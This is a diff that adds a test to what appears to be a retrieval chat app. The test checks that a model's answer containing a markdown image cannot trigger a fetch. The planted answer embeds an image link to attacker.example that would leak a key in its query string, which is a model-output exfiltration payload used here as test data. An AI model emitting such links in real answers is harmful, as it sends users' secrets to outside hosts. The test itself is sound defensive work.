@@ -312,3 +312,19 @@ def test_not_found_is_not_flagged_as_ungrounded(indexed):
     assert result.answer.startswith("I could not find this") and not result.grounded
     assert not any("Ungrounded" in w.value for w in at.warning)
     assert any("ungrounded: nothing relevant was found" in c.value for c in at.caption)
+
+
+def test_model_answer_fetches_no_image(indexed, monkeypatch):
+    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fakes"))
+    import openai_server as fake
+
+    planted = "Press Rotate [1]. ![x](https://attacker.example/leak?q=key)"
+    with fake.LlamaCppServer([fake.answer(planted)], route="keyword") as server:
+        monkeypatch.setenv("RAG_LLM_BASE_URL", server.base_url)
+        monkeypatch.setenv("RAG_LLM_MODEL", "smollm2")
+        at = _app(agent_policy="llm-answer")
+        at.run()
+        at.chat_input[0].set_value("How do I rotate the API key?").run()
+    assert not at.exception
+    shown = _markdown(at)
+    assert "![x](" not in shown and "[image: x `https://attacker.example/leak?q=key`]" in shown
